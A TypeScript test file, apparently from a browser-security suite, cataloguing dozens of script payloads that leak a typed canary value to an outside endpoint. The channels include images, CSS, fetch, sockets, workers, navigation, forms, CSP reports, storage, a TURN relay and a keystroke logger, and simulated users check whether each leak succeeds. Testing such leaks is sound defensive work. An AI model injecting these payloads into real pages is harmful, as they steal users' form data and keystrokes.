/** Pages that carry out what is typed into them. */
import { element, isUdp, type Mind, type Place, rows, JS, STUN, typed } from './attack.ts';
/** The shortest ways: what is typed goes into an address at once. */
const AT_ONCE: Record<string, string> = {
  picture: `new Image().src = E + '/i?' + v`,
  'picture of the own site': `new Image().src = location.origin + '/own?' + v`,
  'picture with attribution': element('img', `e.setAttribute('attributionsrc', E + '/a?' + v); e.src = E + '/i?' + v`),
  'style: background': `document.body.style.background = 'url(' + E + '/c?' + v + ')'`,
  'style: import': element('style', `e.textContent = '@import url(' + E + '/c.css?' + v + ')'`),
  'style: selector on the value':
    `f.setAttribute('value', v); ` +
    element(
      'style',
      `e.textContent = 'input[value^="' + v.slice(0, 4) + '"] { background: url(' + E + '/c?' + v + ') }'`,
    ),
  'style: font': `new FontFace('x', 'url(' + E + '/f?' + v + ')').load().catch(() => 0)`,
  'style: cursor and list': element('li', `e.style.listStyleImage = 'url(' + E + '/l?' + v + ')'`),
  script: element('script', `e.src = E + '/s.js?' + v`),
  'module that is imported': `import(E + '/m.js?' + v).catch(() => 0)`,
  'link: style': element('link', `e.rel = 'stylesheet'; e.href = E + '/l.css?' + v`),
  'link: prefetch': element('link', `e.rel = 'prefetch'; e.href = E + '/p?' + v`),
  'link: preload': element('link', `e.rel = 'preload'; e.as = 'image'; e.href = E + '/p?' + v`),
  'link: modulepreload': element('link', `e.rel = 'modulepreload'; e.href = E + '/p.js?' + v`),
  'link: icon': `for (const old of document.querySelectorAll('link')) old.remove(); const e = document.createElement('link'); e.rel = 'icon'; e.href = E + '/icon.png?' + v; document.head.append(e)`,
  frame: element('iframe', `e.src = E + '/f?' + v`),
  'frame without an address': element('iframe', `e.srcdoc = '<img src="' + E + '/f?' + v + '">'`),
  'frame with data': element('iframe', `e.src = 'data:text/html,<img src="' + E + '/f?' + v + '">'`),
  'frame in a sandbox': element(
    'iframe',
    `e.sandbox = 'allow-scripts'; e.srcdoc = '<script>new Image().src="' + E + '/f?' + v + '"<\\/script>'`,
  ),
  object: element('object', `e.data = E + '/o?' + v`),
  embed: element('embed', `e.src = E + '/o?' + v`),
  video: element('video', `e.preload = 'auto'; e.src = E + '/v?' + v`),
  drawing: `document.body.insertAdjacentHTML('beforeend', '<svg width=9 height=9><image width=9 height=9 href="' + E + '/d?' + v + '"/></svg>')`,
  fetch: `fetch(E + '/x?' + v)`,
  'fetch: only the head': `fetch(E + '/x?' + v, { method: 'HEAD' })`,
  'fetch: in a header': `fetch(E + '/x', { headers: { 'x-value': v } })`,
  'fetch: kept alive': `fetch(E + '/x?' + v, { keepalive: true })`,
  'fetch: later': `fetchLater(E + '/later?' + v, { activateAfter: 0 })`,
  'request that blocks': `const x = new XMLHttpRequest(); x.open('GET', E + '/x?' + v, false); x.send()`,
  'event source': `new EventSource(E + '/es?' + v)`,
  socket: `new WebSocket(E.replace('https', 'wss') + '/ws?' + v)`,
  worker: `new Worker(URL.createObjectURL(new Blob(['fetch("' + E + '/w?' + v + '")'])))`,
  'worker: its address': `new Worker('w.js?' + v)`,
  'worker: imported script': `new Worker(URL.createObjectURL(new Blob(['importScripts("' + E + '/w.js?' + v + '")'])))`,
  'worker: socket': `new Worker(URL.createObjectURL(new Blob(['new WebSocket("' + E.replace('https', 'wss') + '/ws?' + v + '")'])))`,
  'worker: within a worker': `new Worker(URL.createObjectURL(new Blob(['new Worker(URL.createObjectURL(new Blob([\\'fetch("' + E + '/w?' + v + '")\\'])))'])))`,
  'service worker: its address': `navigator.serviceWorker.register('w.js?' + v)`,
  'worklet: paint': `CSS.paintWorklet.addModule(E + '/p.js?' + v).catch(() => 0)`,
  'worklet: sound': `new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(E + '/p.js?' + v).catch(() => 0)`,
  'place: href': `location.href = E + '/go?' + v`,
  'place: own site': `location.href = '/go?' + v`,
  'place: replaced': `location.replace(E + '/go?' + v)`,
  'place: navigation': `navigation.navigate(E + '/go?' + v)`,
  'place: refreshed': element(
    'meta',
    `e.httpEquiv = 'refresh'; e.content = '0;url=' + E + '/go?' + v; document.head.append(e)`,
  ),
  'form by GET': element(
    'form',
    `e.action = E + '/go'; e.innerHTML = '<input name=q value=' + v + '>'; document.body.append(e); e.submit()`,
  ),
  'form by GET in another tab': element(
    'form',
    `e.action = E + '/go'; e.target = '_blank'; e.innerHTML = '<input name=q value=' + v + '>'; document.body.append(e); e.submit()`,
  ),
  'form by GET in a frame':
    `document.body.insertAdjacentHTML('beforeend', '<iframe name=in></iframe>'); ` +
    element(
      'form',
      `e.action = E + '/go'; e.target = 'in'; e.innerHTML = '<input name=q value=' + v + '>'; document.body.append(e); e.submit()`,
    ),
  popup: `open(E + '/pop?' + v)`,
  'popup without an opener': `open(E + '/pop?' + v, '_blank', 'noopener')`,
  'popup that is written': `const w = open('about:blank'); w.document.write('<img src="' + E + '/pop?' + v + '">')`,
  download: element('a', `e.download = 'x'; e.href = location.origin + '/dl?' + v; e.click()`),
  'download: other site': element('a', `e.href = E + '/attached?' + v; e.click()`),
  'speculation: prefetch': element(
    'script',
    `e.type = 'speculationrules'; e.textContent = JSON.stringify({ prefetch: [{ urls: [location.origin + '/sp?' + v], eagerness: 'immediate' }] })`,
  ),
  'speculation: prerender': element(
    'script',
    `e.type = 'speculationrules'; e.textContent = JSON.stringify({ prerender: [{ urls: [location.origin + '/sp?' + v], eagerness: 'immediate' }] })`,
  ),
  'payment method': `new PaymentRequest([{ supportedMethods: E + '/pay/' + v }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment().catch(() => 0)`,
  'login by others': `navigator.credentials.get({ identity: { providers: [{ configURL: location.origin + '/fed?' + v, clientId: v }] } }).catch(() => 0)`,
};
export const LEAKS = rows('leak', {
  ...Object.fromEntries(
    Object.entries(AT_ONCE).map(([name, script]) => [
      name,
      {
        script: typed(script),
        on: 'shop' as const,
        ...(name.startsWith('speculation') ? { mind: slowly } : {}),
        also: { '/w.js': { type: JS, body: '0' }, '/sw.js': { type: JS, body: '0' } },
      },
    ]),
  ),
  'service worker is told': {
    script: `navigator.serviceWorker.register('sw.js'); ${typed(`navigator.serviceWorker.ready.then((r) => r.active.postMessage(v))`)}`,
    also: { '/sw.js': { type: JS, body: `onmessage = ({ data }) => fetch(E + '/sw?' + data)` } },
  },
  'shared worker is told': {
    script: `const w = new SharedWorker('w.js'); ${typed('w.port.postMessage(v)')}`,
    also: {
      '/w.js': {
        type: JS,
        body: `onconnect = ({ ports }) => ports[0].onmessage = ({ data }) => fetch(E + '/w?' + data)`,
      },
    },
  },
  'worker that was there before': `const w = new Worker(URL.createObjectURL(new Blob(['onmessage = ({ data }) => fetch("' + E + '/w?" + data)']))); ${typed('w.postMessage(v)')}`,
  'report of a policy': {
    headers: { 'content-security-policy': `img-src 'none'; report-uri /csp` },
    script: typed(`new Image().src = E + '/i?' + v`),
  },
  'report to an endpoint': {
    headers: { 'content-security-policy': `img-src 'none'; report-to r`, 'reporting-endpoints': `r="/report"` },
    script: typed(`new Image().src = E + '/i?' + v`),
    mind: async (mind, { canary }) => (await mind.type('Name', canary), await mind.wait(1500)),
  },
  'as it leaves: picture': {
    script: `addEventListener('pagehide', () => new Image().src = E + '/h?' + f.value)`,
    mind: leave,
  },
  'as it leaves: kept alive': {
    script: `addEventListener('pagehide', () => fetch(E + '/h?' + f.value, { keepalive: true }))`,
    mind: leave,
  },
  'as it leaves: later': { script: typed(`fetchLater(E + '/h?' + v)`), mind: leave },
  'as it leaves: hidden': {
    script: `document.addEventListener('visibilitychange', () => fetch(E + '/h?' + f.value, { keepalive: true }))`,
    mind: leave,
  },
  'as it is left by going back': {
    script: `addEventListener('pagehide', () => fetch(E + '/h?' + f.value, { keepalive: true }))`,
    mind: async (mind, { canary }) => (await mind.type('Name', canary), await mind.back()),
  },
  'kept: storage': {
    script: `if (localStorage.v) new Image().src = E + '/k?' + localStorage.v; ${typed('localStorage.v = v')}`,
    mind: comeBack,
  },
  'kept: cookie': { script: typed(`document.cookie = 'v=' + v + ';path=/'`), mind: comeBack },
  'kept: name of the tab': {
    script: `if (name) new Image().src = E + '/k?' + name; ${typed('name = v')}`,
    mind: comeBack,
  },
  'kept: history': {
    script: `if (history.state) new Image().src = E + '/k?' + history.state; ${typed("history.replaceState(v, '')")}`,
    mind: goAndBack,
  },
  'kept: page as it was': {
    script: `addEventListener('pageshow', ({ persisted }) => { if (persisted || f.value) new Image().src = E + '/k?' + f.value })`,
    mind: goAndBack,
  },
  'kept: address': {
    script: `if (location.hash) new Image().src = E + '/k?' + location.hash.slice(1); ${typed("history.replaceState(0, '', '#' + v)")}`,
    mind: goAndBack,
  },
  'kept: service worker': {
    script: `navigator.serviceWorker.register('sw.js'); ${typed(`navigator.serviceWorker.ready.then((r) => r.active.postMessage(v))`)}`,
    also: {
      '/sw.js': { type: JS, body: `let v; onmessage = ({ data }) => v = data; onfetch = () => fetch(E + '/sw?' + v)` },
    },
    mind: comeBack,
  },
  'kept: another tab': {
    script: `const b = new BroadcastChannel('x'); b.onmessage = ({ data }) => setInterval(() => new Image().src = E + '/t?' + data, 100); if (!location.search) open('?2'); ${typed('b.postMessage(v)')}`,
    mind: leave,
  },
  'by ending requests that wait': {
    script: `const all = [...Array(4)].map((_, i) => { const c = new AbortController(); fetch(E + '/hold' + i, { signal: c.signal }); return c }); ${typed('all[1].abort(); all[3].abort()')}`,
    sign: (requests, _, { path }) =>
      /1.*3|3.*1/.test(
        requests
          .filter((line) => line.startsWith(`CLOSED ${path}`))
          .slice(0, 2)
          .map((line) => line.at(-1))
          .join(''),
      ),
  },
  'place: with a name and password': {
    script: typed(`location.href = E.replace('//', '//me:' + v + '@') + '/login'`),
    sign: (requests, _, { canary }) => requests.some((line) => line.includes(btoa(`me:${canary}`))),
  },
  'by keys': {
    script: `let k = ''; addEventListener('keydown', ({ key }) => { k += key; new Image().src = E + '/key?' + k })`,
    mind: async (mind) => {
      for (const key of ['KeyB', 'KeyA', 'KeyD']) await mind.press(key);
    },
    sign: (requests) => requests.some((line) => line.includes('/key?bad')),
  },
  'by a choice, after a yes to something else': {
    html: '<label>Kind <select id=c></select></label>',
    script: `const o = c.appendChild(new Option('-')); c.append(new Option(location.search.slice(1))); c.onchange = () => { fetch('/other', { method: 'POST', body: '1' }); setTimeout(() => setInterval(() => new Image().src = E + '/c?' + Math.random() + c.value, 300), 100) }`,
    allowed: 1,
    mind: async (mind, { evil, path, canary }) => {
      await mind.open(`${evil}${path}?${canary}`);
      await mind.choose('Kind', canary);
      await mind.yes();
      await mind.wait(700);
    },
    sign: (requests, _, { canary }) => requests.some((line) => new RegExp(`/c\\?[\\d.]+${canary}`).test(line)),
  },
  'relay by TCP, with the name of its user': {
    on: 'plain',
    script: typed(
      `const p = new RTCPeerConnection({ iceServers: [{ urls: 'turn:' + new URL(P).host + '?transport=tcp', username: v, credential: 'x' }] }); p.createDataChannel('x'); p.setLocalDescription()`,
    ),
    sign: (_, raw) => raw.some((text) => !isUdp(text) && text.includes(STUN)),
  },
});
async function slowly(mind: Mind, { canary }: Place): Promise<void> {
  await mind.type('Name', canary);
  await mind.wait(2500);
}

async function leave(mind: Mind, { canary, shop }: Place): Promise<void> {
  await mind.type('Name', canary);
  await mind.open(`${shop}/`);
  await mind.wait(300);
}

async function comeBack(mind: Mind, place: Place): Promise<void> {
  await leave(mind, place);
  await mind.open(`${place.evil}${place.path}`);
  await mind.wait(300);
}

async function goAndBack(mind: Mind, place: Place): Promise<void> {
  await leave(mind, place);
  await mind.back();
  await mind.wait(300);
}
